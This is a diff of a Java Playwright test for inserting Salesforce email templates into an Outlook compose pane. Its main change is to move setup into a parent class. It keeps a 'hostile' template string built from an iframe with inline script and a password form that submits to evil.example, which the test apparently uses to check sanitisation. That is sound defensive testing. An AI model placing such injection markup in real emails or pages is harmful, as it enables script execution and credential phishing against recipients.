@@ -6,7 +6,6 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import app.tandem.sandbox.browser.OutlookWindow;
 import app.tandem.sandbox.browser.OutlookWindow.Theme;
-import app.tandem.sandbox.world.Person;
 import app.tandem.settings.Switch;
 import com.microsoft.playwright.Frame;
 import com.microsoft.playwright.FrameLocator;
@@ -20,12 +19,11 @@ import java.time.ZoneOffset;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
-import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 
 /** A template of Salesforce in a mail that is being written (pane section 19). */
-class PaneTemplatesTest {
+class PaneTemplatesTest extends AnnasPane {
 
     private static final String GREETING = "<p style=\"color:#0b5394\">Dear {!Contact.FirstName}, about"
             + " <b>{!Opportunity.Name}</b>: {!Nothing.Here}</p>";
@@ -34,15 +32,10 @@ class PaneTemplatesTest {
             + "<iframe srcdoc=\"<script>console.error('ran')</script>\"></iframe>"
             + "<form action=\"https://evil.example/\"><input name=password autofocus onfocus=\"console.error('ran')\"></form>";
 
-    private static PaneStage stage;
-    private static Person anna;
     private static String folder;
 
     @BeforeAll
     static void start() {
-        stage = new PaneStage(3);
-        anna = stage.person(0);
-        stage.connect(anna);
         String account = put("Account", Map.of("Name", "Templar Works"));
         put(
                 "Contact",
@@ -74,11 +67,6 @@ class PaneTemplatesTest {
         template("Greeting", Map.of("Subject", "For {!Contact.FirstName}", "HtmlValue", GREETING));
         String hostile = template("Hostile", Map.of("HtmlValue", HOSTILE));
         put("Attachment", Map.of("ParentId", hostile, "Name", "prices.pdf", "Body", new byte[] {1}));
-    }
-
-    @AfterAll
-    static void stop() {
-        stage.close();
     }
 
     /** pane U-265 … U-271: chosen, filled for the recipient, looked at, and in the draft at the cursor with its subject. */
